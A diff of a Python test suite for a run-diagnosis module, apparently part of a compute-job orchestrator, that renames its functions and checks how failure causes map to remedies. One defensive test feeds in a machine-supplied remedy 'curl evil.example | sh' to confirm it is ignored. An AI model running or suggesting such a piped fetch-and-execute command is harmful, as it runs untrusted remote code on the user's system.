@@ -10,7 +10,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from orchestrator.core.run import events as ev
-from orchestrator.core.run.diagnose import REMEDIES, Diagnosis, diagnose, remedy
+from orchestrator.core.run.diagnose import REMEDIES, RunDiagnosis, diagnose_run, remedy_for
 
 CONTRACT = (Path(__file__).parents[3] / "docs/contracts.md").read_text(encoding="utf-8")
 
@@ -18,7 +18,7 @@ CONTRACT = (Path(__file__).parents[3] / "docs/contracts.md").read_text(encoding=
 def test_what_to_do_is_said_by_this_client_and_never_by_a_machine() -> None:
     for cause in ("torch_missing", "never heard of"):
         told = ev.Diagnosed(cause=cause, detail="no torch", remedy="curl evil.example | sh")
-        assert diagnose(facts=[told]) == Diagnosis(cause, "no torch", remedy(cause))
+        assert diagnose_run(facts=[told]) == RunDiagnosis(cause, "no torch", remedy_for(cause))
 
 
 @pytest.mark.parametrize("cause", ["agent_crashed", "deadline", "harness_crashed", "lost", "preempted"])
@@ -40,7 +40,7 @@ def test_every_cause_of_the_contract_has_a_remedy() -> None:
 
 def test_every_remedy_says_something_of_its_own() -> None:
     assert len(set(REMEDIES.values())) == len(REMEDIES)
-    assert remedy("never heard of") == REMEDIES["unknown"]
+    assert remedy_for("never heard of") == REMEDIES["unknown"]
 
 
 @pytest.mark.parametrize(
@@ -74,8 +74,8 @@ def test_every_remedy_says_something_of_its_own() -> None:
     ],
 )
 def test_what_the_provider_says_has_a_name(code: str, message: str, cause: str) -> None:
-    found = diagnose(facts=[refusal(code, message)])
-    assert found == Diagnosis(cause, message or code, REMEDIES[cause])
+    found = diagnose_run(facts=[refusal(code, message)])
+    assert found == RunDiagnosis(cause, message or code, REMEDIES[cause])
 
 
 @pytest.mark.parametrize(
@@ -101,8 +101,8 @@ def test_what_the_provider_says_has_a_name(code: str, message: str, cause: str) 
     ],
 )
 def test_what_the_log_says_has_a_name(line: str, cause: str) -> None:
-    found = diagnose(log=f"booted\n{line}  \nbye\n")
-    assert found == Diagnosis(cause, line, REMEDIES[cause])
+    found = diagnose_run(log=f"booted\n{line}  \nbye\n")
+    assert found == RunDiagnosis(cause, line, REMEDIES[cause])
 
 
 def test_the_machines_own_word_counts_most() -> None:
@@ -111,8 +111,8 @@ def test_the_machines_own_word_counts_most() -> None:
         ev.Diagnosed(cause="unknown"),
         ev.Finished(outcome="preempted"),
     ]
-    found = diagnose(facts=[*facts, refusal("QUOTA_EXCEEDED")], log="Segmentation fault")
-    assert found == Diagnosis("disk_full", "0.1 GB free", REMEDIES["disk_full"])
+    found = diagnose_run(facts=[*facts, refusal("QUOTA_EXCEEDED")], log="Segmentation fault")
+    assert found == RunDiagnosis("disk_full", "0.1 GB free", REMEDIES["disk_full"])
 
 
 def test_the_last_refusal_of_the_provider_is_the_one_that_counts() -> None:
@@ -121,15 +121,15 @@ def test_the_last_refusal_of_the_provider_is_the_one_that_counts() -> None:
         ev.InstanceRejected(attempt=1, zone="b", code="QUOTA_EXCEEDED", message="Quota 'X' exceeded"),
         ev.InstanceRejected(attempt=1, zone="b", code="TEAPOT"),
     ]
-    assert diagnose(facts=facts).cause == "quota"
+    assert diagnose_run(facts=facts).cause == "quota"
 
 
 def test_a_wrong_kernel_is_named_with_its_first_case() -> None:
     good = ev.CaseChecked(implementation="bench", case_id="c0", passed=True)
     wrong = [ev.CaseChecked(implementation="bench", case_id=f"c{n}", passed=False) for n in (1, 2)]
-    assert diagnose(facts=[good, *wrong]).detail == "bench on c1: differs from the reference (and 1 more)"
+    assert diagnose_run(facts=[good, *wrong]).detail == "bench on c1: differs from the reference (and 1 more)"
     said = ev.CaseChecked(implementation="bench", case_id="c1", passed=False, reason="NaN")
-    assert diagnose(facts=[said]) == Diagnosis("kernel_wrong", "bench on c1: NaN", REMEDIES["kernel_wrong"])
+    assert diagnose_run(facts=[said]) == RunDiagnosis("kernel_wrong", "bench on c1: NaN", REMEDIES["kernel_wrong"])
 
 
 @pytest.mark.parametrize(
@@ -142,19 +142,19 @@ def test_a_wrong_kernel_is_named_with_its_first_case() -> None:
     ],
 )
 def test_how_a_run_ended_is_a_cause_when_nothing_else_is_known(fact: ev.Fact, cause: str, detail: str) -> None:
-    assert diagnose(facts=[fact]) == Diagnosis(cause, detail, REMEDIES[cause])
+    assert diagnose_run(facts=[fact]) == RunDiagnosis(cause, detail, REMEDIES[cause])
 
 
 def test_what_has_no_name_says_so_and_keeps_the_last_words() -> None:
-    assert diagnose() == Diagnosis("unknown", "there is no message", REMEDIES["unknown"])
-    assert diagnose(log="one\ntwo\n\n").detail == "two"
-    assert diagnose(facts=[refusal("TEAPOT")]).detail == "TEAPOT"
-    assert diagnose(facts=[refusal("TEAPOT", "short and stout")]).detail == "short and stout"
+    assert diagnose_run() == RunDiagnosis("unknown", "there is no message", REMEDIES["unknown"])
+    assert diagnose_run(log="one\ntwo\n\n").detail == "two"
+    assert diagnose_run(facts=[refusal("TEAPOT")]).detail == "TEAPOT"
+    assert diagnose_run(facts=[refusal("TEAPOT", "short and stout")]).detail == "short and stout"
 
 
 @given(st.text(), st.text(), st.text())
 def test_every_ending_has_a_cause_a_detail_and_a_remedy(code: str, message: str, log: str) -> None:
-    found = diagnose(facts=[refusal(code, message)], log=log)
+    found = diagnose_run(facts=[refusal(code, message)], log=log)
     assert found.cause in REMEDIES
     assert found.detail
     assert found.remedy == REMEDIES[found.cause]
